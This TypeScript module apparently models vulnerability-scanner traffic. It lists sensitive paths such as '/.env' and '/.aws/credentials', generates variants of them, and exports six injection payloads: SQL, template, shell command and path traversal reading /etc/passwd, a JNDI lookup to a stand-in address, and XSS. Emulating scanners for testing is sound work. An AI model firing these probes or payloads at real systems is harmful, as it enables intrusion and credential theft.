/** What vulnerability scanners ask for: well-known paths, variants of them without end, and payloads for queries. */

/** Files and applications that scanners ask for first; each names a public class of finding. */
const PATHS: readonly string[] = [
  "/.env",
  "/.git/config",
  "/.aws/credentials",
  "/.svn/entries",
  "/.DS_Store",
  "/wp-login.php",
  "/wp-admin/install.php",
  "/xmlrpc.php",
  "/phpmyadmin/index.php",
  "/phpinfo.php",
  "/server-status",
  "/actuator/env",
  "/actuator/heapdump",
  "/solr/admin/info/system",
  "/jenkins/script",
  "/manager/html",
  "/console/login",
  "/cgi-bin/test.cgi",
  "/backup.zip",
  "/dump.sql",
  "/config.json",
  "/web.config",
  "/swagger.json",
  "/graphql",
  "/.well-known/openid-configuration",
  "/api/v1/pods",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/autodiscover/autodiscover.xml",
  "/boaform/admin/formLogin",
  "/owa/auth/logon.aspx",
];
const FOLDERS: readonly string[] = [
  "",
  "/admin",
  "/old",
  "/backup",
  "/test",
  "/dev",
  "/app",
  "/site",
  "/public",
  "/v1",
];
const SUFFIXES: readonly string[] = ["", ".bak", ".old", "~", ".1", ".zip", ".txt"];

/** One of each sort: injection into a query, a template, a shell, a path, a log, and a page. */
export const PAYLOADS: readonly string[] = [
  "?id=1%27%20OR%20%271%27=%271",
  "?name={{7*7}}",
  "?cmd=;cat%20/etc/passwd",
  "?file=../../../../etc/passwd",
  "?x=${jndi:ldap://198.18.0.1/a}",
  "?q=%3Cscript%3Ealert(1)%3C/script%3E",
];

/** The path of probe `number`, from 0; no two are alike. The best known come first. */
export function probePath(number: number): string {
  const path = PATHS[number % PATHS.length] ?? "/";
  const variant = Math.floor(number / PATHS.length);
  const folder = FOLDERS[variant % FOLDERS.length] ?? "";
  const round = Math.floor(variant / FOLDERS.length);
  const suffix = SUFFIXES[round % SUFFIXES.length] ?? "";
  const again = Math.floor(round / SUFFIXES.length);
  return `${folder}${path}${suffix}${again === 0 ? "" : `-${again}`}`;
}
